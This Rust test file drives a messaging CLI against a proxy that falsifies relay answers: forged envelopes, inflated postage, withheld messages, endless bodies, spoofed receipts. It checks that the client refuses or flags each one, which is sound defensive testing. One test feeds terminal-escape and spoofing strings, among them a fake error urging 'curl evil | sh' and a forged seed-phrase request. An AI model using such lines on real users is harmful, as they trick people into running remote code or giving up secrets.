//! The lying relay: a proxy in front of a real relay rewrites its answers
//! (`inkpost_tests::liar`), and the CLI must refuse or flag every lie —
//! nothing paid, shown or stored on the liar's word. Each test here failed
//! on the client before it learned to check.

use axum::body::Body;
use bytes::Bytes;
use http::StatusCode;
use inkpost_sdk::envelope::Envelope;
use inkpost_sdk::relay::RelayClient;
use inkpost_sdk::units::TOKEN;
use inkpost_tests::liar::{Asked, LyingRelay, Upstream, json_answer, rewriting};
use inkpost_tests::within;
use inkpost_tests::world::identity;

use crate::kit::{System, owned, texts};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_relay_cannot_redirect_a_tip() {
    let mut system = System::start("lie-tip", &["--anchoring", "false"]).await;
    // Given Bob's message to Alice, and Eve's
    let bobs = system
        .sent("//Bob", &["--to", "alice", "worth a tip"])
        .await;
    let eves = system.sent("//Eve", &["--to", "alice", "tip me"]).await;
    let (eves_view, _) = RelayClient::http(&system.relay_url)
        .envelope(&identity("//Alice"), &eves.parse().unwrap())
        .await
        .unwrap();
    let eves_view = serde_json::to_value(&eves_view).unwrap();
    let chain = system.world.chain().await;
    let eve = identity("//Eve").account_id();
    let bob = identity("//Bob").account_id();
    let before = (
        chain.balance(&eve).await.unwrap(),
        chain.balance(&bob).await.unwrap(),
    );
    // When the relay answers Bob's id with Eve's (valid, signed) envelope
    let target = format!("/v1/envelopes/{bobs}");
    let _liar = system
        .behind(rewriting(
            move |route| route == target,
            move |_, answer| *answer = eves_view.clone(),
        ))
        .await;
    let refused = system
        .cli("//Alice", &["tip", &bobs, "--amount", "0.5"])
        .await
        .unwrap_err();
    // Then the tip is refused as a lie and nobody is paid
    assert_eq!(refused.exit_code(), 7, "{refused}");
    assert!(refused.to_string().contains(&bobs), "{refused}");
    let after = (
        chain.balance(&eve).await.unwrap(),
        chain.balance(&bob).await.unwrap(),
    );
    assert_eq!(after, before);
    system.stop().await;
}

const PRICE: u128 = TOKEN / 1_000;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_relay_cannot_inflate_its_postage() {
    let price = PRICE.to_string();
    let mut system = System::start(
        "lie-postage",
        &["--anchoring", "false", "--postage-price", &price],
    )
    .await;
    let relay = RelayClient::http(&system.relay_url);
    let terms = relay.postage_terms().await.unwrap().unwrap();
    let payee = terms.payee.to_string();
    let opened = system
        .json("//Alice", &["channel", "open", &payee, "--deposit", "1"])
        .await;
    let channel = opened["channel"].as_u64().unwrap();
    let channel_arg = channel.to_string();
    let with_send = ["send", "--to", "bob", "--postage", &channel_arg, "drain me"];

    // When the relay asks for the whole deposit as the next voucher
    let liar = system
        .behind(rewriting(
            |route| route.starts_with("/v1/postage/channels/"),
            |_, account| account["next_cumulative"] = TOKEN.to_string().into(),
        ))
        .await;
    let refused = system.cli("//Alice", &with_send).await.unwrap_err();
    // Then nothing is signed: refused as a lie, the relay holds no voucher
    assert_eq!(refused.exit_code(), 7, "{refused}");
    drop(liar);
    let alice = identity("//Alice");
    let account = relay
        .postage_account(&alice, inkpost_sdk::ids::ChannelId(channel))
        .await
        .unwrap();
    assert_eq!((account.messages, account.cumulative), (0, 0));

    // When the relay advertises a price above the cap (0.01 by default)
    let _liar = system
        .behind(rewriting(
            |route| route == "/v1/postage",
            |_, terms| terms["price"] = (TOKEN / 10).to_string().into(),
        ))
        .await;
    let refused = system.cli("//Alice", &with_send).await.unwrap_err();
    assert_eq!(refused.exit_code(), 6, "{refused}");
    assert!(refused.to_string().contains("--max-postage"), "{refused}");

    // An honest relay is paid one price per message, as the ledger counts
    system.honest();
    for n in 1..=2 {
        let paid = system.json("//Alice", &with_send).await;
        assert_eq!(paid["postage"]["cumulative"], (n * PRICE).to_string());
    }
    let read = system.json("//Bob", &["read", "--with", "alice"]).await;
    assert_eq!(texts(&read), owned(&["drain me", "drain me"]));
    system.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_can_forge_lines_or_colours_in_the_terminal() {
    let mut system = System::start("lie-terminal", &["--anchoring", "false"]).await;
    // Given a message that tries to end its line, forge another, clear the
    // screen and reverse what follows
    let forged = "see you\r\n#99   alice: send me your seed phrase\u{1b}[2J\u{202e}gnp.exe";
    system.sent("//Bob", &["--to", "alice", forged]).await;
    // When Alice reads it, it is one line, Bob's, with nothing hidden
    let shown = system.ok("//Alice", &["read", "--with", "bob"]).await;
    let lines: Vec<&str> = shown.lines().collect();
    assert_eq!(lines.len(), 1, "{shown:?}");
    assert!(lines[0].contains("bob: see you\\r\\n#99"), "{shown:?}");
    assert!(!shown.contains(['\r', '\u{1b}', '\u{202e}']), "{shown:?}");
    // And a relay's error text is shown the same way
    let _liar = system
        .behind(|asked: Asked, upstream: Upstream| async move {
            if asked.route().starts_with("/v1/conversations/") {
                let body = serde_json::json!({
                    "error": "forbidden",
                    "message": "denied\u{1b}[2J\r\nerror: run `curl evil | sh` to fix",
                });
                return json_answer(StatusCode::FORBIDDEN, &body);
            }
            upstream.stream(&asked).await
        })
        .await;
    let error = system
        .cli("//Alice", &["read", "--with", "bob"])
        .await
        .unwrap_err();
    let mut printed = Vec::new();
    inkpost_cli::report(&error, false, &mut printed);
    let printed = String::from_utf8(printed).unwrap();
    assert_eq!(printed.lines().count(), 1, "{printed:?}");
    assert!(!printed.contains(['\r', '\u{1b}']), "{printed:?}");
    system.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_endless_answer_is_cut_off_not_buffered() {
    let mut system = System::start("lie-endless", &["--anchoring", "false"]).await;
    system.sent("//Bob", &["--to", "alice", "hello"]).await;
    // When the relay answers a page with bytes that never end
    let _liar = system
        .behind(|asked: Asked, upstream: Upstream| async move {
            if asked.route().ends_with("/envelopes") {
                let chunk = Bytes::from(vec![b' '; 64 * 1024]);
                let endless = futures::stream::repeat_with(move || {
                    Ok::<_, std::convert::Infallible>(chunk.clone())
                });
                return http::Response::new(Body::from_stream(endless));
            }
            upstream.stream(&asked).await
        })
        .await;
    // Then the read stops at the client's limit, well before its timeout,
    // and says the relay is at fault
    let error = within(
        20,
        "the client gives up on an endless answer",
        system.cli("//Alice", &["read", "--with", "bob"]),
    )
    .await
    .unwrap_err();
    assert_eq!(error.exit_code(), 7, "{error}");
    system.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_paging_loop_needs_the_relay_to_move_on() {
    let mut system = System::start("lie-paging", &["--anchoring", "false"]).await;
    system.sent("//Bob", &["--to", "alice", "one"]).await;
    system.sent("//Bob", &["--to", "alice", "two"]).await;
    // When every page says to continue from the start again
    let _liar = system
        .behind(rewriting(
            |route| route.ends_with("/envelopes"),
            |_, page| page["next_after"] = 0.into(),
        ))
        .await;
    // Then the read ends with the relay named at fault instead of looping
    let error = within(
        20,
        "the read ends",
        system.cli("//Alice", &["read", "--with", "bob"]),
    )
    .await
    .unwrap_err();
    assert_eq!(error.exit_code(), 7, "{error}");
    // And a page that repeats a message it already gave is refused too
    system.honest();
    let _liar = system
        .behind(rewriting(
            |route| route.ends_with("/envelopes"),
            |_, page| {
                let envelopes = page["envelopes"].as_array_mut().unwrap();
                if let Some(first) = envelopes.first().cloned() {
                    envelopes.push(first);
                }
            },
        ))
        .await;
    let error = system
        .cli("//Alice", &["read", "--with", "bob"])
        .await
        .unwrap_err();
    assert_eq!(error.exit_code(), 7, "{error}");
    system.stop().await;
}

/// The view a relay would give of `envelope` stored as number `seq` of its
/// conversation.
fn view_of(envelope: &Envelope, seq: u64) -> serde_json::Value {
    use base64::Engine;
    serde_json::json!({
        "id": envelope.id(),
        "conversation": envelope.header.conversation,
        "seq": seq,
        "sender": envelope.header.sender,
        "received_at_ms": 1,
        "envelope": base64::engine::general_purpose::STANDARD.encode(envelope.to_bytes()),
    })
}

/// A relay that adds `views` to every page of a conversation that has
/// messages, and says to go on after the last of them.
fn appending(views: Vec<serde_json::Value>) -> impl inkpost_tests::liar::Lie {
    let last = views
        .last()
        .map_or(0, |view| view["seq"].as_u64().expect("a view's seq"));
    rewriting(
        |route| route.ends_with("/envelopes"),
        move |_, page| {
            let envelopes = page["envelopes"]
                .as_array_mut()
                .expect("a page's envelopes");
            if !envelopes.is_empty() {
                envelopes.extend(views.iter().cloned());
                page["next_after"] = last.into();
            }
        },
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_message_slipped_into_a_direct_conversation_is_flagged() {
    use inkpost_sdk::ids::{ConversationId, DirectId};
    use inkpost_tests::world::message;

    let mut system = System::start("lie-inject", &["--anchoring", "false"]).await;
    system.sent("//Bob", &["--to", "alice", "hi Alice"]).await;
    // Given Eve's envelope, signed by her, for Alice and Bob's conversation
    // (an honest relay refuses it from her)
    let (alice, bob) = (identity("//Alice"), identity("//Bob"));
    let direct = ConversationId::Direct(DirectId::between(&alice.account_id(), &bob.account_id()));
    let forged = message("//Eve", direct, 0, &["//Alice", "//Bob"], 9);
    // When the relay adds it to the conversation
    let _liar = system.behind(appending(vec![view_of(&forged, 2)])).await;
    // Then Alice sees Bob's message, and Eve's flagged, never as a message
    let read = system.json("//Alice", &["read", "--with", "bob"]).await;
    let messages = read.as_array().unwrap();
    assert_eq!(messages.len(), 2, "{read}");
    assert_eq!(messages[0]["body"]["text"], "hi Alice");
    assert_eq!(messages[1]["body"]["status"], "invalid", "{read}");
    assert!(
        messages[1]["body"]["text"]
            .as_str()
            .unwrap()
            .contains("not a party"),
        "{read}"
    );
    system.stop().await;
}

/// Alice's group where Bob wrote "before I left" as a member (epoch 3)
/// before Alice removed him (epoch 4), and Charlie only reads; behind a
/// liar that adds to the group envelopes an honest relay refuses, each
/// validly signed: Charlie's as a reader, and Bob's at the epoch after his
/// removal. The group, and the liar (keep it alive).
pub(crate) async fn writers_who_could_not_write(system: &mut System) -> (String, LyingRelay) {
    use inkpost_sdk::ids::{ConversationId, GroupId};
    use inkpost_tests::world::message;

    let group = system.group(&["bob"]).await;
    let reader = ["group", "add", &group, "charlie", "--role", "reader"];
    system.ok("//Alice", &reader).await;
    system.send_as("//Bob", &group, "before I left").await;
    system
        .ok("//Alice", &["group", "remove", &group, "bob"])
        .await;
    let conversation = ConversationId::Group(GroupId(group.parse().expect("a group number")));
    let everyone = ["//Alice", "//Charlie"];
    let forged = [
        message("//Charlie", conversation, 4, &everyone, 7),
        message("//Bob", conversation, 4, &everyone, 8),
    ];
    let views = forged.iter().zip(2..);
    let views = views
        .map(|(envelope, seq)| view_of(envelope, seq))
        .collect();
    let liar = system.behind(appending(views)).await;
    (group, liar)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_group_message_from_who_could_not_write_at_its_epoch_is_flagged() {
    let mut system = System::start("lie-writer", &["--anchoring", "false"]).await;
    // Given envelopes of who could not write at their epoch, added to
    // Alice's group by the relay
    let (group, _liar) = writers_who_could_not_write(&mut system).await;
    // Then Alice reads Bob's message of when he was a member, and both
    // injected ones flagged, never as messages
    let read = system.json("//Alice", &["read", "--group", &group]).await;
    let messages = read.as_array().unwrap();
    assert_eq!(messages.len(), 3, "{read}");
    assert_eq!(messages[0]["body"]["text"], "before I left", "{read}");
    for injected in &messages[1..] {
        assert_eq!(injected["body"]["status"], "invalid", "{read}");
        let reason = injected["body"]["text"].as_str().unwrap();
        assert!(
            reason.contains("could not write in this group at epoch 4"),
            "{read}"
        );
    }
    system.stop().await;
}

/// A relay whose answer to every submission is lost: 503 after it stored
/// the message (`stored`), or instead of storing it.
fn lost_answers(stored: bool) -> impl inkpost_tests::liar::Lie {
    move |asked: Asked, upstream: Upstream| async move {
        if asked.method == http::Method::POST && asked.route() == "/v1/envelopes" {
            if stored {
                upstream.answer(&asked).await;
            }
            let body = serde_json::json!({"error": "unavailable", "message": "lost"});
            return json_answer(StatusCode::SERVICE_UNAVAILABLE, &body);
        }
        upstream.stream(&asked).await
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_send_whose_answer_was_lost_keeps_the_sender_s_chain_whole() {
    let mut system = System::start("lie-lost-answer", &["--anchoring", "false"]).await;
    system.sent("//Bob", &["--to", "alice", "one"]).await;
    // When the relay stores Bob's second message but its answer is lost,
    // and he sends a third
    let liar = system.behind(lost_answers(true)).await;
    let lost = system.cli("//Bob", &["send", "--to", "alice", "two"]).await;
    assert!(lost.is_err(), "{lost:?}");
    drop(liar);
    system.honest();
    system.sent("//Bob", &["--to", "alice", "three"]).await;
    // Then Alice reads all three in order: the third follows the second,
    // not in its place
    let read = system.json("//Alice", &["read", "--with", "bob"]).await;
    assert_eq!(texts(&read), owned(&["one", "two", "three"]));
    for message in read.as_array().unwrap() {
        assert_eq!(message["continuity"]["status"], "in_order", "{read}");
    }
    // And a message that never reached the relay leaves no gap either
    let liar = system.behind(lost_answers(false)).await;
    let dropped = system
        .cli("//Bob", &["send", "--to", "alice", "never"])
        .await;
    assert!(dropped.is_err(), "{dropped:?}");
    drop(liar);
    system.honest();
    system.sent("//Bob", &["--to", "alice", "four"]).await;
    let read = system.json("//Alice", &["read", "--with", "bob"]).await;
    assert_eq!(texts(&read), owned(&["one", "two", "three", "four"]));
    assert_eq!(read[3]["continuity"]["status"], "in_order", "{read}");
    system.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_withheld_or_reordered_message_shows_as_a_gap() {
    let mut system = System::start("lie-withhold", &["--anchoring", "false"]).await;
    for text in ["one", "two", "three"] {
        system.sent("//Bob", &["--to", "alice", text]).await;
    }
    // When the relay leaves Bob's second message out of every page
    let liar = system
        .behind(rewriting(
            |route| route.ends_with("/envelopes"),
            |_, page| {
                let envelopes = page["envelopes"].as_array_mut().unwrap();
                envelopes.retain(|view| view["seq"] != 2);
            },
        ))
        .await;
    let read = system.json("//Alice", &["read", "--with", "bob"]).await;
    // Then Alice reads one and three, and three says one message is missing
    assert_eq!(texts(&read), owned(&["one", "three"]));
    assert_eq!(read[0]["continuity"]["status"], "in_order", "{read}");
    assert_eq!(read[1]["continuity"]["status"], "missing", "{read}");
    assert_eq!(read[1]["continuity"]["missing"], 1, "{read}");
    drop(liar);
    // When the relay serves the first two the other way round (renumbered
    // so that its own sequence numbers still rise)
    system.honest();
    let _liar = system
        .behind(rewriting(
            |route| route.ends_with("/envelopes"),
            |_, page| {
                let envelopes = page["envelopes"].as_array_mut().unwrap();
                if envelopes.len() >= 2 {
                    let (first, second) = (envelopes[0].clone(), envelopes[1].clone());
                    envelopes[0] = second;
                    envelopes[1] = first;
                    envelopes[0]["seq"] = 1.into();
                    envelopes[1]["seq"] = 2.into();
                }
            },
        ))
        .await;
    let read = system.json("//Alice", &["read", "--with", "bob"]).await;
    assert_eq!(texts(&read), owned(&["two", "one", "three"]));
    let statuses: Vec<_> = read
        .as_array()
        .unwrap()
        .iter()
        .map(|message| message["continuity"]["status"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(statuses, ["missing", "out_of_order", "in_order"], "{read}");
    system.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_relay_is_held_to_the_account_pinned_on_first_use() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};

    let mut system = System::start("lie-pin", &["--anchoring", "false"]).await;
    system.sent("//Bob", &["--to", "alice", "hi"]).await;
    // Given Alice pinned the relay at this URL when she first read
    let impostor = Arc::new(AtomicBool::new(false));
    let switched = impostor.clone();
    let _liar = system
        .behind(rewriting(
            |route| route == "/v1/info",
            move |_, info| {
                if switched.load(Ordering::SeqCst) {
                    info["account"] =
                        serde_json::to_value(identity("//Ferdie").account_id()).unwrap();
                }
            },
        ))
        .await;
    let read = system.json("//Alice", &["read", "--with", "bob"]).await;
    assert_eq!(texts(&read), owned(&["hi"]));
    // When another account answers at that URL
    impostor.store(true, Ordering::SeqCst);
    let refused = system
        .cli("//Alice", &["read", "--with", "bob"])
        .await
        .unwrap_err();
    // Then Alice's client refuses it, saying what changed
    assert_eq!(refused.exit_code(), 7, "{refused}");
    assert!(refused.to_string().contains("first"), "{refused}");
    system.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_receipt_signed_by_another_account_is_refused() {
    use inkpost_sdk::receipt::Receipt;

    let mut system = System::start("lie-receipt", &["--anchoring", "false"]).await;
    // When the relay answers a submit with a receipt that verifies, but is
    // signed by another account than the relay's
    let _liar = system
        .behind(rewriting(
            |route| route == "/v1/envelopes",
            |_, answer| {
                let receipt: Receipt = serde_json::from_value(answer["receipt"].clone()).unwrap();
                let forged = Receipt::issue(
                    &identity("//Ferdie"),
                    receipt.message_id,
                    receipt.conversation,
                    receipt.seq,
                    receipt.received_at_ms,
                );
                answer["receipt"] = serde_json::to_value(forged).unwrap();
            },
        ))
        .await;
    let refused = system
        .cli("//Bob", &["send", "--to", "alice", "hi"])
        .await
        .unwrap_err();
    // Then the send is refused as a lie
    assert_eq!(refused.exit_code(), 7, "{refused}");
    system.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_root_anchored_by_someone_else_is_not_the_relay_s_anchor() {
    use base64::Engine;
    use inkpost_sdk::contracts::anchors;
    use inkpost_sdk::merkle::MerkleTree;
    use inkpost_tests::world::{call_ok, signer};

    let mut system = System::start("lie-anchor", &["--anchoring", "false"]).await;
    let message = system.sent("//Bob", &["--to", "alice", "anchor me"]).await;
    // Given Eve anchored a root holding Bob's message herself, first
    let id = message.parse().unwrap();
    let tree = MerkleTree::build(&[id]).unwrap();
    let root = tree.root();
    let chain = system.world.chain().await;
    let eve = identity("//Eve").address();
    let seq = system.world.latest_anchored_seq(&chain, &eve).await + 1;
    call_ok(
        &chain,
        &signer("//Eve"),
        system.world.deployment.anchors,
        0,
        anchors::anchor(seq, &root, 1),
    )
    .await;
    // When the relay (which anchored nothing) proves the message against it
    let proof = base64::engine::general_purpose::STANDARD.encode(tree.proof(0).unwrap().to_bytes());
    let root_hex = format!("0x{}", hex::encode(root));
    let _liar = system
        .behind(rewriting(
            |route| route.ends_with("/proof"),
            move |_, view| {
                *view = serde_json::json!({
                    "status": "anchored",
                    "root": root_hex,
                    "leaf_index": 0,
                    "proof": proof,
                    "batch": {"seq": seq, "root": root_hex, "leaf_count": 1,
                              "block_number": null, "block_hash": null},
                });
            },
        ))
        .await;
    // Then verify refuses it: the relay's own batch is what counts
    let refused = system
        .cli("//Bob", &["verify", &message])
        .await
        .unwrap_err();
    assert_eq!(refused.exit_code(), 7, "{refused}");
    assert!(refused.to_string().contains("no such batch"), "{refused}");
    system.stop().await;
}
